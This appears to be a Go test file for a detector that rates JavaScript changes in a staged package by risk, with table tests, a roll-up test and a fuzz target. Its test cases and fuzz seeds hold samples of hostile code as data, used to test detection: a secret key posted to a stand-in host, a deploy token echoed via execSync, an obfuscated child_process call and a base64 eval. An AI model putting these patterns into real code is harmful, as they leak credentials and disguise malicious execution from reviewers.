package signals

import (
	stdctx "context"
	"strings"
	"testing"

	"github.com/stagegate/stagegate/internal/diff"
)

// assess diffs old against new and runs every detector with the roll-up.
func assess(t *testing.T, old, new map[string]string) Report {
	t.Helper()
	in := Input{New: pkg(new), StagedVerified: true, BaseVerified: true}
	if old != nil {
		in.Old = pkg(old)
	}
	d, err := diff.Compare(stdctx.Background(), in.Old, in.New, diff.Options{})
	if err != nil {
		t.Fatal(err)
	}
	in.Diff = d
	return Assess(in)
}

func TestCorroboration(t *testing.T) {
	for _, tt := range []struct {
		name   string
		add    []string
		high   bool
		reason string // in the risk reasons when high
	}{
		{name: "network read and a file write", high: true, reason: "network access",
			add: []string{"const host = Buffer.from(h, 'base64').toString();", "https.get('https://' + host + '/geo', (r) => {",
				"  r.on('end', () => fs.writeFileSync('README.md', 'x'));", "});"}},
		{name: "key material sent in a request", high: true, reason: "credential or secret reads",
			add: []string{"function q(keypair) {", "  const blob = Array.from(keypair.secretKey).join(',');",
				"  globalThis.fetch('https://a.example.invalid/q', { method: 'POST', headers: { 'x-m': blob } });", "}"}},
		{name: "secret env read and a spawn", high: true,
			add: []string{"const { execSync } = require('child_process');", "execSync('echo ' + process.env.DEPLOY_TOKEN);"}},
		{name: "a fetch alone", add: []string{"fetch('https://api.example.invalid/v1').then((r) => r.json());"}},
		{name: "a write alone", add: []string{"fs.writeFileSync(out, JSON.stringify(data));"}},
	} {
		t.Run(tt.name, func(t *testing.T) {
			r := assess(t, ctBase, ctAppend(tt.add...))
			if got := r.Risk.Level == RiskHigh; got != tt.high {
				t.Fatalf("risk %s, want high=%v; signals %+v", r.Risk.Level, tt.high, r.Signals)
			}
			if !tt.high {
				return
			}
			if !strings.Contains(strings.Join(r.Risk.Reasons, "\n"), tt.reason) {
				t.Errorf("reasons %q lack %q", r.Risk.Reasons, tt.reason)
			}
			found := false
			for _, s := range r.Signals {
				found = found || s.Severity == High && s.Path == "index.js"
			}
			if !found {
				t.Errorf("no high signal on index.js: %+v", r.Signals)
			}
		})
	}
}

func TestRiskRollUp(t *testing.T) {
	if r := rollUp(nil, nil); r.Level != RiskNone || r.Reasons == nil {
		t.Errorf("no signals: %+v", r)
	}
	r := rollUp([]Signal{{ID: NewEndpoint, Severity: Medium, Path: "a.js", Title: "t"}, {ID: ProcessSpawn, Severity: Low}}, nil)
	if r.Level != RiskMedium || len(r.Reasons) != 1 || !strings.Contains(r.Reasons[0], "new-endpoint in a.js") {
		t.Errorf("medium: %+v", r)
	}
	if !r.AtLeast(Medium) || r.AtLeast(High) || (Risk{Level: RiskNone}).AtLeast(Low) {
		t.Error("AtLeast")
	}
}

// FuzzAssess feeds arbitrary text as a changed JavaScript file through
// every detector, folding included: nothing may panic, and the risk is
// never lower than the most serious signal.
func FuzzAssess(f *testing.F) {
	for _, seed := range []string{
		"const r = globalThis['re' + 'quire']; r(['chi','ld_pro','cess'].join('')).execSync('id');",
		"eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());",
		"function _0x1(){return ['a','b'];} function _0x2(i){return _0x1()[i];} spawn(_0x2(0x0));",
		"fetch('https://x.example.invalid', {headers: {k: keypair.secretKey}});",
		"`${'a' + 'b'}` /re/g // https://a.example.invalid\n\u200b",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, src string) {
		r := assess(t, ctBase, ctWith(map[string]string{"index.js": src, "lib/new.js": src}))
		top := RiskNone
		for _, s := range r.Signals {
			if s.Severity == High {
				top = RiskHigh
			} else if s.Severity == Medium && top != RiskHigh {
				top = RiskMedium
			} else if top == RiskNone {
				top = RiskLow
			}
		}
		if top != r.Risk.Level {
			t.Fatalf("risk %s, highest signal %s", r.Risk.Level, top)
		}
	})
}
